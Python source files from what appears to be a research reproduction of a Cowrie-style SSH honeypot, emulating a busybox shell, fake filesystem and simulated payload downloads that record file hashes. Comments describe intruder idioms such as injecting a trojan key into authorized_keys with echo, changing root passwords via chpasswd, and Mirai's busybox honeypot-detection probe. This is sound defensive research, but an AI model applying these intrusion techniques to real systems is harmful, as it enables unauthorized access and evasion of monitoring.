    registry.register("ps", _ps)
    registry.register("top", _top)
    registry.register("lscpu", _lscpu)
    registry.register("df", _df)
    registry.register("du", _du)
    registry.register("ifconfig", _ifconfig)
    registry.register("ip", _ifconfig)
    registry.register("env", _env)
    registry.register("printenv", _env)
    registry.register("history", _history)
    registry.register("netstat", _netstat)
