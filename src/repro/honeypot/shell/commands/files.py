"""File-manipulation commands.

``echo`` with redirection is the honeyfarm's single most consequential
command: the dominant campaign in the paper (hash H1) injects a trojan SSH
key into ``~/.ssh/authorized_keys`` via ``echo >>`` — a file modification
the honeypot hashes and records.
"""

from __future__ import annotations

import posixpath

from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.parser import SimpleCommand


def _cat(ctx: ShellContext, cmd: SimpleCommand) -> str:
    outputs = []
    for path in cmd.argv[1:]:
        if path.startswith("-"):
            continue
        try:
            outputs.append(ctx.fs.read(path).decode("utf-8", "replace").rstrip("\n"))
        except FileNotFoundError:
            outputs.append(f"cat: {path}: No such file or directory")
        except IsADirectoryError:
            outputs.append(f"cat: {path}: Is a directory")
    return "\n".join(outputs)


def _echo(ctx: ShellContext, cmd: SimpleCommand) -> str:
    args = cmd.argv[1:]
    interpret_escapes = False
    if args and args[0] == "-e":
        interpret_escapes = True
        args = args[1:]
    elif args and args[0] == "-n":
        args = args[1:]
    text = " ".join(args)
    if interpret_escapes:
        text = text.replace("\\n", "\n").replace("\\t", "\t")
        # Hex escapes (\x41) are common in dropper probes.
        out = []
        i = 0
        while i < len(text):
            if text.startswith("\\x", i) and i + 4 <= len(text):
                try:
                    out.append(chr(int(text[i + 2:i + 4], 16)))
                    i += 4
                    continue
                except ValueError:
                    pass
            out.append(text[i])
            i += 1
        text = "".join(out)
    return text


def _ls(ctx: ShellContext, cmd: SimpleCommand) -> str:
    paths = [a for a in cmd.argv[1:] if not a.startswith("-")] or ["."]
    outputs = []
    for path in paths:
        try:
            outputs.append("  ".join(ctx.fs.listdir(path)))
        except FileNotFoundError:
            if ctx.fs.exists(path):
                outputs.append(posixpath.basename(ctx.fs.resolve(path)))
            else:
                outputs.append(f"ls: {path}: No such file or directory")
    return "\n".join(outputs)


def _cd(ctx: ShellContext, cmd: SimpleCommand) -> str:
    target = cmd.argv[1] if len(cmd.argv) > 1 else ctx.env.get("HOME", "/root")
    if not ctx.fs.chdir(target):
        # Busybox-style shells create-and-enter is not a thing; report error.
        return f"-sh: cd: {target}: No such file or directory"
    return ""


def _pwd(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ctx.fs.cwd


def _mkdir(ctx: ShellContext, cmd: SimpleCommand) -> str:
    for path in cmd.argv[1:]:
        if path.startswith("-"):
            continue
        ctx.fs.mkdir(path, now=ctx.now)
    return ""


def _touch(ctx: ShellContext, cmd: SimpleCommand) -> str:
    for path in cmd.argv[1:]:
        if path.startswith("-"):
            continue
        if not ctx.fs.exists(path):
            ctx.record_write(path, b"")
    return ""


def _rm(ctx: ShellContext, cmd: SimpleCommand) -> str:
    outputs = []
    for path in cmd.argv[1:]:
        if path.startswith("-"):
            continue
        if not ctx.fs.remove(path):
            outputs.append(f"rm: can't remove '{path}': No such file or directory")
    return "\n".join(outputs)


def _cp(ctx: ShellContext, cmd: SimpleCommand) -> str:
    args = [a for a in cmd.argv[1:] if not a.startswith("-")]
    if len(args) < 2:
        return "cp: missing file operand"
    src, dst = args[0], args[-1]
    try:
        content = ctx.fs.read(src)
    except (FileNotFoundError, IsADirectoryError):
        return f"cp: can't stat '{src}': No such file or directory"
    if ctx.fs.is_dir(dst):
        dst = posixpath.join(dst, posixpath.basename(ctx.fs.resolve(src)))
    ctx.record_write(dst, content)
    return ""


def _mv(ctx: ShellContext, cmd: SimpleCommand) -> str:
    result = _cp(ctx, cmd)
    if result:
        return result.replace("cp:", "mv:")
    args = [a for a in cmd.argv[1:] if not a.startswith("-")]
    ctx.fs.remove(args[0])
    return ""


def _chmod(ctx: ShellContext, cmd: SimpleCommand) -> str:
    args = [a for a in cmd.argv[1:] if not a.startswith("-")]
    if len(args) < 2:
        return "chmod: missing operand"
    mode_text, paths = args[0], args[1:]
    try:
        mode = int(mode_text, 8)
    except ValueError:
        mode = 0o755  # symbolic modes (+x) all end up executable here
    outputs = []
    for path in paths:
        if not ctx.fs.chmod(path, mode):
            outputs.append(f"chmod: {path}: No such file or directory")
    return "\n".join(outputs)


def _chown(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _head(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return _head_tail(ctx, cmd, take_head=True)


def _tail(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return _head_tail(ctx, cmd, take_head=False)


def _head_tail(ctx: ShellContext, cmd: SimpleCommand, take_head: bool) -> str:
    count = 10
    paths = []
    args = cmd.argv[1:]
    i = 0
    while i < len(args):
        if args[i] == "-n" and i + 1 < len(args):
            try:
                count = int(args[i + 1])
            except ValueError:
                pass
            i += 2
        elif args[i].startswith("-") and args[i][1:].isdigit():
            count = int(args[i][1:])
            i += 1
        elif args[i].startswith("-"):
            i += 1
        else:
            paths.append(args[i])
            i += 1
    outputs = []
    for path in paths:
        try:
            lines = ctx.fs.read(path).decode("utf-8", "replace").splitlines()
        except (FileNotFoundError, IsADirectoryError):
            outputs.append(f"head: {path}: No such file or directory")
            continue
        chunk = lines[:count] if take_head else lines[-count:]
        outputs.append("\n".join(chunk))
    return "\n".join(outputs)


def _grep(ctx: ShellContext, cmd: SimpleCommand) -> str:
    args = [a for a in cmd.argv[1:] if not a.startswith("-")]
    if not args:
        return ""
    pattern = args[0]
    outputs = []
    for path in args[1:]:
        try:
            for line in ctx.fs.read(path).decode("utf-8", "replace").splitlines():
                if pattern in line:
                    outputs.append(line)
        except (FileNotFoundError, IsADirectoryError):
            outputs.append(f"grep: {path}: No such file or directory")
    return "\n".join(outputs)


def _find(ctx: ShellContext, cmd: SimpleCommand) -> str:
    start = next((a for a in cmd.argv[1:] if not a.startswith("-")), ".")
    base = ctx.fs.resolve(start)
    matches = [e.path for e in ctx.fs.all_files() if e.path.startswith(base)]
    return "\n".join(sorted(matches))


def _which(ctx: ShellContext, cmd: SimpleCommand) -> str:
    from repro.honeypot.shell.base import default_registry

    outputs = []
    for name in cmd.argv[1:]:
        if default_registry().is_known(name):
            outputs.append(f"/usr/bin/{name}")
    return "\n".join(outputs)


def _dd(ctx: ShellContext, cmd: SimpleCommand) -> str:
    # Mirai probes the architecture by dd-ing the first bytes of a binary.
    infile = None
    count = 1
    bs = 512
    for arg in cmd.argv[1:]:
        if arg.startswith("if="):
            infile = arg[3:]
        elif arg.startswith("count="):
            try:
                count = int(arg[6:])
            except ValueError:
                pass
        elif arg.startswith("bs="):
            try:
                bs = int(arg[3:])
            except ValueError:
                pass
    if infile:
        try:
            data = ctx.fs.read(infile)[: count * bs]
            head = data.decode("latin-1")
        except (FileNotFoundError, IsADirectoryError):
            return f"dd: {infile}: No such file or directory"
        return head + f"\n{count}+0 records in\n{count}+0 records out"
    return f"{count}+0 records in\n{count}+0 records out"


def _ln(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _stat(ctx: ShellContext, cmd: SimpleCommand) -> str:
    args = [a for a in cmd.argv[1:] if not a.startswith("-")]
    outputs = []
    for path in args:
        entry = ctx.fs.get(path)
        if entry is None:
            outputs.append(f"stat: can't stat '{path}': No such file or directory")
        else:
            kind = "directory" if entry.is_dir else "regular file"
            outputs.append(f"  File: {path}\n  Size: {entry.size}\t{kind}")
    return "\n".join(outputs)


def register(registry: CommandRegistry) -> None:
    registry.register("cat", _cat)
    registry.register("echo", _echo)
    registry.register("ls", _ls)
    registry.register("cd", _cd)
    registry.register("pwd", _pwd)
    registry.register("mkdir", _mkdir)
    registry.register("touch", _touch)
    registry.register("rm", _rm)
    registry.register("cp", _cp)
    registry.register("mv", _mv)
    registry.register("chmod", _chmod)
    registry.register("chown", _chown)
    registry.register("head", _head)
    registry.register("tail", _tail)
    registry.register("grep", _grep)
    registry.register("egrep", _grep)
    registry.register("find", _find)
    registry.register("which", _which)
    registry.register("dd", _dd)
    registry.register("ln", _ln)
    registry.register("stat", _stat)
