"""Networking commands — the dropper tools.

``wget``/``curl``/``tftp``/``ftpget`` are how intruders pull payloads onto
the box.  Each fetch goes through the session's URI resolver, produces a
file write (hence a recorded hash) on success, and contributes simulated
transfer time, which is what lets CMD+URI sessions outlive the three-minute
timeout in the paper's Figure 7 (the timeout resets while a download is in
flight).
"""

from __future__ import annotations

from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.parser import SimpleCommand
from repro.honeypot.uri import extract_uris


def _wget(ctx: ShellContext, cmd: SimpleCommand) -> str:
    uris = extract_uris(cmd.text)
    if not uris:
        return "wget: missing URL"
    save_as = None
    argv = cmd.argv
    for i, arg in enumerate(argv):
        if arg in ("-O", "-o") and i + 1 < len(argv):
            save_as = argv[i + 1]
    outputs = []
    for uri in uris:
        record = ctx.record_download(uri, save_as=save_as)
        if record.success:
            outputs.append(
                f"Connecting to {uri.split('/')[2]}... connected.\n"
                f"'{record.saved_path}' saved [{record.size}]"
            )
        else:
            outputs.append(f"wget: can't connect to remote host: Connection refused")
    return "\n".join(outputs)


def _curl(ctx: ShellContext, cmd: SimpleCommand) -> str:
    uris = extract_uris(cmd.text)
    if not uris:
        return "curl: try 'curl --help' for more information"
    save_as = None
    to_file = False
    argv = cmd.argv
    for i, arg in enumerate(argv):
        if arg in ("-o", "--output") and i + 1 < len(argv):
            save_as = argv[i + 1]
            to_file = True
        elif arg in ("-O", "--remote-name"):
            to_file = True
    outputs = []
    for uri in uris:
        if to_file:
            record = ctx.record_download(uri, save_as=save_as)
            if not record.success:
                outputs.append(f"curl: (7) Failed to connect")
        else:
            # Output to stdout: still a fetch (hash recorded), path is temp.
            record = ctx.record_download(uri, save_as="/tmp/.curl_stdout")
            if record.success:
                outputs.append(f"<payload {record.size} bytes>")
            else:
                outputs.append("curl: (7) Failed to connect")
    return "\n".join(outputs)


def _tftp(ctx: ShellContext, cmd: SimpleCommand) -> str:
    uris = extract_uris(cmd.text)
    if not uris:
        return "tftp: bad usage"
    save_as = None
    argv = cmd.argv
    for i, arg in enumerate(argv):
        if arg == "-l" and i + 1 < len(argv):
            save_as = argv[i + 1]
    record = ctx.record_download(uris[0], save_as=save_as)
    if record.success:
        return ""
    return "tftp: timeout"


def _ftpget(ctx: ShellContext, cmd: SimpleCommand) -> str:
    uris = extract_uris(cmd.text)
    if not uris:
        return "ftpget: usage: ftpget HOST LOCAL REMOTE"
    positional = [a for a in cmd.argv[1:] if not a.startswith("-")]
    save_as = positional[1] if len(positional) >= 2 else None
    record = ctx.record_download(uris[0], save_as=save_as)
    if record.success:
        return ""
    return "ftpget: connect: Connection refused"


def _ping(ctx: ShellContext, cmd: SimpleCommand) -> str:
    target = next((a for a in cmd.argv[1:] if not a.startswith("-")), "")
    if not target:
        return "ping: usage error"
    return (
        f"PING {target} ({target}): 56 data bytes\n"
        f"64 bytes from {target}: seq=0 ttl=49 time=42.0 ms\n"
        f"--- {target} ping statistics ---\n"
        "1 packets transmitted, 1 packets received, 0% packet loss"
    )


def _ssh(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "ssh: connect to host: Connection refused"


def _scp(ctx: ShellContext, cmd: SimpleCommand) -> str:
    uris = extract_uris(cmd.text)
    if uris:
        record = ctx.record_download(uris[0])
        if record.success:
            return ""
    return "ssh: connect to host: Connection refused"


def _nc(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "nc: bad address"


def register(registry: CommandRegistry) -> None:
    registry.register("wget", _wget)
    registry.register("curl", _curl)
    registry.register("tftp", _tftp)
    registry.register("ftpget", _ftpget)
    registry.register("ping", _ping)
    registry.register("ssh", _ssh)
    registry.register("scp", _scp)
    registry.register("nc", _nc)
    registry.register("netcat", _nc)
