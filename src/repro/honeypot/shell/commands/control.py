"""Session / system control commands.

Includes the credential-change commands the paper calls out (``chpasswd``,
``passwd``), busybox applet dispatch (Mirai's honeypot-detection probe), and
interpreter invocations (``sh script.sh``) which execute a downloaded script
as unknown-command input the way Cowrie records them.
"""

from __future__ import annotations

from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.parser import SimpleCommand


def _exit(ctx: ShellContext, cmd: SimpleCommand) -> str:
    ctx.exit_requested = True
    return ""


def _shadow_digest(ctx: ShellContext, cmd: SimpleCommand) -> str:
    """Derive the new /etc/shadow hash field from the credential input.

    The real chpasswd hashes whatever password arrives on stdin; we model
    stdin as the command text plus the contents of any referenced file
    (the ``chpasswd < /tmp/.p`` dropper idiom), so different campaign
    passwords yield different shadow contents — and thus different
    recorded file hashes.
    """
    import hashlib

    seed = cmd.text.encode("utf-8")
    for token in cmd.text.replace("<", " ").replace(">", " ").split():
        if token.startswith("/") and ctx.fs.exists(token) and not ctx.fs.is_dir(token):
            try:
                seed += ctx.fs.read(token)
            except (FileNotFoundError, IsADirectoryError):
                pass
    return hashlib.sha256(seed).hexdigest()[:22]


def _passwd(ctx: ShellContext, cmd: SimpleCommand) -> str:
    # Record the (pretend) credential change as a file modification of
    # /etc/shadow, like the real system would cause.
    digest = _shadow_digest(ctx, cmd)
    ctx.record_write("/etc/shadow", f"root:$6$salt${digest}:19000:0:99999:7:::\n".encode())
    return "passwd: password updated successfully"


def _chpasswd(ctx: ShellContext, cmd: SimpleCommand) -> str:
    digest = _shadow_digest(ctx, cmd)
    ctx.record_write("/etc/shadow", f"root:$6$salt${digest}:19000:0:99999:7:::\n".encode())
    return ""


def _crontab(ctx: ShellContext, cmd: SimpleCommand) -> str:
    if "-l" in cmd.argv:
        return "no crontab for root"
    if "-r" in cmd.argv:
        return ""
    return ""


def _service(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _systemctl(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _kill(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _sleep(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _export(ctx: ShellContext, cmd: SimpleCommand) -> str:
    for arg in cmd.argv[1:]:
        if "=" in arg:
            key, value = arg.split("=", 1)
            ctx.env[key] = value
    return ""


def _ulimit(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "unlimited"

def _true(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _yes(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "y"


def _reboot(ctx: ShellContext, cmd: SimpleCommand) -> str:
    ctx.exit_requested = True
    return ""


def _sh(ctx: ShellContext, cmd: SimpleCommand) -> str:
    """Run ``sh script`` / ``bash -c 'cmd'`` — interpret the target inline."""
    args = cmd.argv[1:]
    if not args:
        return ""
    if args[0] == "-c" and len(args) > 1:
        from repro.honeypot.shell.shell import EmulatedShell

        sub = EmulatedShell(ctx)
        result = sub.execute(args[1])
        return "\n".join(r.output for r in result.commands if r.output)
    script = args[0]
    try:
        content = ctx.fs.read(script).decode("utf-8", "replace")
    except (FileNotFoundError, IsADirectoryError):
        return f"sh: {script}: No such file or directory"
    if content.startswith("\x7fELF") or "\x00" in content:
        return f"sh: {script}: cannot execute binary file"
    from repro.honeypot.shell.shell import EmulatedShell

    sub = EmulatedShell(ctx)
    outputs = []
    for line in content.splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        result = sub.execute(line)
        outputs.extend(r.output for r in result.commands if r.output)
    return "\n".join(outputs)


def _busybox(ctx: ShellContext, cmd: SimpleCommand) -> str:
    """busybox APPLET [args] — dispatch, or the Mirai applet-not-found probe."""
    args = cmd.argv[1:]
    if not args:
        return (
            "BusyBox v1.24.1 (2019-01-21 22:55:52 UTC) multi-call binary.\n"
            "Usage: busybox [function [arguments]...]"
        )
    applet = args[0]
    from repro.honeypot.shell.base import default_registry

    func = default_registry().lookup(applet)
    if func is None or applet.isupper():
        # Mirai probes with an uppercase token ("/bin/busybox MIRAI") and
        # expects "<token>: applet not found" from a real busybox.
        return f"{applet}: applet not found"
    inner = SimpleCommand(
        text=" ".join(args),
        argv=args,
        redirect_path=cmd.redirect_path,
        redirect_append=cmd.redirect_append,
    )
    return func(ctx, inner)


def _awk(ctx: ShellContext, cmd: SimpleCommand) -> str:
    # Frequently used to parse /proc files; emulate the common field grab.
    return ""


def _xargs(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def register(registry: CommandRegistry) -> None:
    registry.register("exit", _exit)
    registry.register("logout", _exit)
    registry.register("passwd", _passwd)
    registry.register("chpasswd", _chpasswd)
    registry.register("crontab", _crontab)
    registry.register("service", _service)
    registry.register("systemctl", _systemctl)
    registry.register("kill", _kill)
    registry.register("killall", _kill)
    registry.register("pkill", _kill)
    registry.register("sleep", _sleep)
    registry.register("export", _export)
    registry.register("ulimit", _ulimit)
    registry.register("true", _true)
    registry.register("false", _true)
    registry.register("yes", _yes)
    registry.register("reboot", _reboot)
    registry.register("shutdown", _reboot)
    registry.register("halt", _reboot)
    registry.register("sh", _sh)
    registry.register("bash", _sh)
    registry.register("ash", _sh)
    registry.register("busybox", _busybox)
    registry.register("awk", _awk)
    registry.register("xargs", _xargs)
