"""The honeypot's emulated Unix shell.

After a successful login the client sees a busybox-like shell.  Commands the
shell knows are emulated (and their effects — file writes, downloads — are
recorded); commands it does not know are recorded verbatim as "unknown", the
exact behaviour the paper describes for the deployed honeypot software.
"""

from repro.honeypot.shell.parser import SimpleCommand, split_command_line
from repro.honeypot.shell.context import ShellContext, DownloadRecord, FileChange
from repro.honeypot.shell.resolver import UriResolver, StaticPayloadResolver
from repro.honeypot.shell.shell import CommandRecord, EmulatedShell, ExecutionResult
from repro.honeypot.shell.base import CommandRegistry, default_registry

__all__ = [
    "SimpleCommand",
    "split_command_line",
    "ShellContext",
    "DownloadRecord",
    "FileChange",
    "UriResolver",
    "StaticPayloadResolver",
    "CommandRecord",
    "EmulatedShell",
    "ExecutionResult",
    "CommandRegistry",
    "default_registry",
]
