"""Execution context shared by shell commands.

The context carries the fake filesystem, environment variables, the URI
resolver used to satisfy downloads, and accumulators for everything the
honeypot must record: file creations/modifications (with content hashes),
downloads (with simulated transfer time, which feeds the session timeout
logic), and whether the client asked to exit.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.shell.resolver import UriResolver, StaticPayloadResolver


@dataclass
class FileChange:
    """A file created or modified by a client command."""

    path: str
    sha256: str
    size: int
    created: bool  # True = new file, False = modification


@dataclass
class DownloadRecord:
    """A remote resource fetched during the session."""

    uri: str
    sha256: Optional[str]
    size: int
    duration: float
    success: bool
    saved_path: Optional[str] = None


@dataclass
class ShellContext:
    fs: FakeFilesystem
    resolver: UriResolver = field(default_factory=StaticPayloadResolver)
    env: Dict[str, str] = field(default_factory=lambda: {
        "HOME": "/root",
        "PATH": "/usr/bin:/bin:/usr/sbin:/sbin",
        "USER": "root",
        "SHELL": "/bin/sh",
    })
    hostname: str = "localhost"
    now: float = 0.0

    file_changes: List[FileChange] = field(default_factory=list)
    downloads: List[DownloadRecord] = field(default_factory=list)
    exit_requested: bool = False

    def record_write(self, path: str, content: bytes, append: bool = False) -> FileChange:
        """Write through the fs and record the resulting change."""
        entry, created = self.fs.write(path, content, now=self.now, append=append)
        change = FileChange(
            path=entry.path, sha256=entry.sha256, size=entry.size, created=created
        )
        self.file_changes.append(change)
        return change

    def record_download(self, uri: str, save_as: Optional[str] = None) -> DownloadRecord:
        """Fetch ``uri`` via the resolver, store the payload, record it."""
        payload = self.resolver.fetch(uri)
        if payload is None:
            record = DownloadRecord(
                uri=uri, sha256=None, size=0, duration=self.resolver.failure_delay(uri),
                success=False,
            )
            self.downloads.append(record)
            return record
        path = save_as or self._default_save_path(uri)
        change = self.record_write(path, payload)
        record = DownloadRecord(
            uri=uri,
            sha256=change.sha256,
            size=change.size,
            duration=self.resolver.transfer_time(uri, len(payload)),
            success=True,
            saved_path=change.path,
        )
        self.downloads.append(record)
        return record

    def _default_save_path(self, uri: str) -> str:
        name = uri.rstrip("/").rsplit("/", 1)[-1] or "index.html"
        # strip URL query strings
        name = name.split("?", 1)[0] or "download"
        return f"{self.fs.cwd}/{name}" if self.fs.cwd != "/" else f"/{name}"
