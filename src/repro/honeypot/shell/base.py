"""Command abstraction and registry for the emulated shell."""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.parser import SimpleCommand

#: A command implementation: (context, command) -> output text.
CommandFunc = Callable[[ShellContext, SimpleCommand], str]


class CommandRegistry:
    """Maps command names to emulation functions.

    A name present in the registry is a "known" command (emulated); anything
    else is recorded as "unknown" — mirroring how the deployed honeypot
    software classifies client input.
    """

    def __init__(self) -> None:
        self._commands: Dict[str, CommandFunc] = {}

    def register(self, name: str, func: Optional[CommandFunc] = None):
        """Register a command, usable directly or as a decorator."""
        if func is not None:
            self._commands[name] = func
            return func

        def decorator(f: CommandFunc) -> CommandFunc:
            self._commands[name] = f
            return f

        return decorator

    def alias(self, existing: str, *names: str) -> None:
        func = self._commands[existing]
        for name in names:
            self._commands[name] = func

    def lookup(self, name: str) -> Optional[CommandFunc]:
        # Commands invoked via absolute path (/bin/busybox) resolve by basename.
        return self._commands.get(name.rsplit("/", 1)[-1])

    def is_known(self, name: str) -> bool:
        return self.lookup(name) is not None

    def names(self) -> List[str]:
        return sorted(self._commands)

    def __len__(self) -> int:
        return len(self._commands)


_default: Optional[CommandRegistry] = None


def default_registry() -> CommandRegistry:
    """The shared registry with all built-in commands registered."""
    global _default
    if _default is None:
        from repro.honeypot.shell import commands as _commands

        _default = _commands.build_registry()
    return _default
