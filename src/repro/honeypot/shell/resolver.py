"""URI resolvers: how the honeypot obtains remote payload bytes.

A real Cowrie deployment downloads the referenced resource from the
Internet.  We have no Internet, so resolvers synthesise payload bytes.  The
default resolver is deterministic in the URI — the same dropper URL always
yields the same bytes, hence the same file hash, exactly the property that
lets the farm correlate one campaign across honeypots.  Workload campaigns
install their own payloads via :class:`StaticPayloadResolver` so a campaign
controls the hash its dropper produces.
"""

from __future__ import annotations

import hashlib
from typing import Dict, Optional


class UriResolver:
    """Base resolver: deterministic pseudo-payload per URI."""

    #: Simulated effective bandwidth (bytes/second) for transfer-time model.
    bandwidth = 150_000.0
    #: Base latency for any fetch (connection setup etc.).
    base_latency = 1.2

    def fetch(self, uri: str) -> Optional[bytes]:
        """Payload bytes for ``uri``, or None for a failed fetch."""
        seed = hashlib.sha256(uri.encode("utf-8")).digest()
        # Size: 4-120 KiB, deterministic in the URI.
        size = 4096 + int.from_bytes(seed[:2], "big") % (120 * 1024)
        block = hashlib.sha256(seed).digest()
        reps = size // len(block) + 1
        return (block * reps)[:size]

    def transfer_time(self, uri: str, size: int) -> float:
        return self.base_latency + size / self.bandwidth

    def failure_delay(self, uri: str) -> float:
        """Time wasted on a fetch that ultimately fails (timeout-ish)."""
        return 10.0


class StaticPayloadResolver(UriResolver):
    """Resolver with an explicit URI -> payload table.

    Unknown URIs fall back to the deterministic base behaviour unless
    ``strict`` is set, in which case they fail (useful for testing the
    download-failure path).
    """

    def __init__(self, payloads: Optional[Dict[str, bytes]] = None, strict: bool = False):
        self.payloads: Dict[str, bytes] = dict(payloads or {})
        self.strict = strict

    def register(self, uri: str, payload: bytes) -> None:
        self.payloads[uri] = payload

    def fetch(self, uri: str) -> Optional[bytes]:
        if uri in self.payloads:
            return self.payloads[uri]
        if self.strict:
            return None
        return super().fetch(uri)
