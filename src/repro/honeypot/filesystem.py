"""In-memory Unix-like filesystem for the emulated shell.

The honeypot records a content hash whenever a client command creates or
modifies a file.  This filesystem tracks file content, permissions and
mtimes, normalises paths, and reports create/modify transitions so the
session layer can emit the matching events.

The default template mimics the minimal embedded-Linux layout that Cowrie
presents (busybox-ish /bin, /proc pseudo-files with plausible content).
"""

from __future__ import annotations

import hashlib
import posixpath
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple


def hash_content(content: bytes) -> str:
    """SHA-256 hex digest; the signature the farm uses to identify files."""
    return hashlib.sha256(content).hexdigest()


@dataclass
class FileEntry:
    path: str
    content: bytes = b""
    mode: int = 0o644
    mtime: float = 0.0
    is_dir: bool = False

    @property
    def sha256(self) -> str:
        return hash_content(self.content)

    @property
    def size(self) -> int:
        return len(self.content)


PROC_CPUINFO = (
    "processor\t: 0\n"
    "model name\t: ARMv7 Processor rev 5 (v7l)\n"
    "BogoMIPS\t: 38.40\n"
    "Features\t: half thumb fastmult vfp edsp neon vfpv3\n"
    "CPU implementer\t: 0x41\n"
    "Hardware\t: Generic DT based system\n"
).encode()

PROC_MEMINFO = (
    "MemTotal:         254696 kB\n"
    "MemFree:          181240 kB\n"
    "Buffers:           12068 kB\n"
    "Cached:            38912 kB\n"
    "SwapTotal:             0 kB\n"
    "SwapFree:              0 kB\n"
).encode()

PROC_MOUNTS = (
    "/dev/root / ext4 rw,relatime 0 0\n"
    "proc /proc proc rw,relatime 0 0\n"
    "tmpfs /tmp tmpfs rw,relatime 0 0\n"
).encode()

ETC_PASSWD = (
    "root:x:0:0:root:/root:/bin/sh\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
).encode()

DEFAULT_LAYOUT: Dict[str, bytes] = {
    "/proc/cpuinfo": PROC_CPUINFO,
    "/proc/meminfo": PROC_MEMINFO,
    "/proc/mounts": PROC_MOUNTS,
    "/etc/passwd": ETC_PASSWD,
    "/etc/hostname": b"localhost\n",
    "/bin/busybox": b"\x7fELF\x01\x01\x01busybox-stub",
    "/bin/sh": b"\x7fELF\x01\x01\x01sh-stub",
    # Busybox applet symlink stubs; `which <tool>` resolves here.
    "/usr/bin/ls": b"\x7fELF\x01\x01\x01busybox-stub",
    "/usr/bin/wget": b"\x7fELF\x01\x01\x01busybox-stub",
    "/usr/bin/uname": b"\x7fELF\x01\x01\x01busybox-stub",
    "/usr/bin/free": b"\x7fELF\x01\x01\x01busybox-stub",
    "/var/log/wtmp": b"",
}

DEFAULT_DIRS = [
    "/", "/bin", "/dev", "/etc", "/home", "/proc", "/root", "/sbin",
    "/tmp", "/usr", "/usr/bin", "/var", "/var/log", "/var/run", "/var/tmp",
]


class FakeFilesystem:
    """A path -> :class:`FileEntry` store with Unix path semantics."""

    def __init__(self, populate: bool = True):
        self._entries: Dict[str, FileEntry] = {}
        self.cwd = "/root"
        if populate:
            for d in DEFAULT_DIRS:
                self._entries[d] = FileEntry(path=d, is_dir=True, mode=0o755)
            for path, content in DEFAULT_LAYOUT.items():
                mode = 0o755 if path.startswith("/bin") else 0o644
                self._entries[path] = FileEntry(path=path, content=content, mode=mode)
            self._entries["/root"] = FileEntry(path="/root", is_dir=True, mode=0o700)

    # -- path handling -----------------------------------------------------

    def resolve(self, path: str) -> str:
        """Normalise ``path`` against the current working directory."""
        if not path:
            return self.cwd
        if not path.startswith("/"):
            path = posixpath.join(self.cwd, path)
        norm = posixpath.normpath(path)
        return norm if norm.startswith("/") else "/" + norm

    # -- queries -----------------------------------------------------------

    def exists(self, path: str) -> bool:
        return self.resolve(path) in self._entries

    def is_dir(self, path: str) -> bool:
        entry = self._entries.get(self.resolve(path))
        return bool(entry and entry.is_dir)

    def get(self, path: str) -> Optional[FileEntry]:
        return self._entries.get(self.resolve(path))

    def read(self, path: str) -> bytes:
        entry = self._entries.get(self.resolve(path))
        if entry is None:
            raise FileNotFoundError(path)
        if entry.is_dir:
            raise IsADirectoryError(path)
        return entry.content

    def listdir(self, path: str) -> List[str]:
        base = self.resolve(path)
        if base not in self._entries or not self._entries[base].is_dir:
            raise FileNotFoundError(path)
        prefix = base.rstrip("/") + "/"
        names = set()
        for p in self._entries:
            if p != base and p.startswith(prefix):
                rest = p[len(prefix):]
                names.add(rest.split("/", 1)[0])
        return sorted(names)

    def all_files(self) -> List[FileEntry]:
        return [e for e in self._entries.values() if not e.is_dir]

    # -- mutation ----------------------------------------------------------

    def mkdir(self, path: str, now: float = 0.0) -> bool:
        """Create a directory (and parents). Returns True if created."""
        full = self.resolve(path)
        if full in self._entries:
            return False
        parts = full.strip("/").split("/")
        acc = ""
        created = False
        for part in parts:
            acc += "/" + part
            if acc not in self._entries:
                self._entries[acc] = FileEntry(path=acc, is_dir=True, mode=0o755, mtime=now)
                created = True
        return created

    def write(
        self, path: str, content: bytes, now: float = 0.0, append: bool = False
    ) -> Tuple[FileEntry, bool]:
        """Write/append to a file; returns ``(entry, created)``.

        ``created`` is True when the path did not exist before, which is the
        signal the session layer uses to distinguish FILE_CREATED from
        FILE_MODIFIED events.
        """
        full = self.resolve(path)
        parent = posixpath.dirname(full) or "/"
        self.mkdir(parent, now=now)
        existing = self._entries.get(full)
        if existing is not None and existing.is_dir:
            raise IsADirectoryError(path)
        created = existing is None
        if append and existing is not None:
            content = existing.content + content
        entry = FileEntry(
            path=full,
            content=content,
            mode=existing.mode if existing else 0o644,
            mtime=now,
        )
        self._entries[full] = entry
        return entry, created

    def chmod(self, path: str, mode: int) -> bool:
        entry = self._entries.get(self.resolve(path))
        if entry is None:
            return False
        entry.mode = mode
        return True

    def remove(self, path: str) -> bool:
        full = self.resolve(path)
        entry = self._entries.get(full)
        if entry is None:
            return False
        if entry.is_dir:
            prefix = full.rstrip("/") + "/"
            for p in list(self._entries):
                if p.startswith(prefix):
                    del self._entries[p]
        del self._entries[full]
        return True

    def chdir(self, path: str) -> bool:
        full = self.resolve(path)
        if self.is_dir(full):
            self.cwd = full
            return True
        return False
